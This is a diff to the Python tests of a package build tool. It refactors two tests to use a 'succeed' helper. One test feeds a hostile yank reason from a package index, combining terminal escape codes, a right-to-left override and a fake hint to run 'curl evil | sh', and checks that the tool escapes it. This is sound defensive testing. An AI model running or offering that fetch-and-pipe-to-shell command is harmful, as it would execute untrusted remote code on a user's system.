@@ -256,8 +256,7 @@ class TestAlone:
         # Of what builds `beta`, no lock says where it is.
         index = {"UV_INDEX": f"other={indexes.private.simple}"}
         env = {**indexes.environment, **WAYS[way](indexes, tmp_path), **index}
-        done = wherry("build", UV_CACHE_DIR=str(tmp_path / "uv"), **env)
-        assert done.code == 0, done.err
+        done = wherry.succeed("build", UV_CACHE_DIR=str(tmp_path / "uv"), **env)
         assert (
             f"note: the password of the index `company` is sent to {indexes.private.url}, "
             "as `Pipfile.lock` says and no other file of the project declares"
@@ -299,8 +298,7 @@ def test_a_reason_of_the_index_forges_no_line(
     reason = "old\nerror: \x1b[2Jdisk full\r\u202ehint: run `curl evil | sh`"
     FORMATS["poetry.lock"](wherry.cwd, indexes)
     indexes.private.files[ALPHA.filename] = replace(ALPHA, yanked=reason)
-    done = wherry("build", **named(indexes, tmp_path))
-    assert done.code == 0, done.err
+    done = wherry.succeed("build", **named(indexes, tmp_path))
     assert (
         f"warning: `{ALPHA.filename}` was yanked from the index: old\\nerror: \\x1b[2Jdisk full"
         "\\r\\u202ehint: run `curl evil | sh`\n"
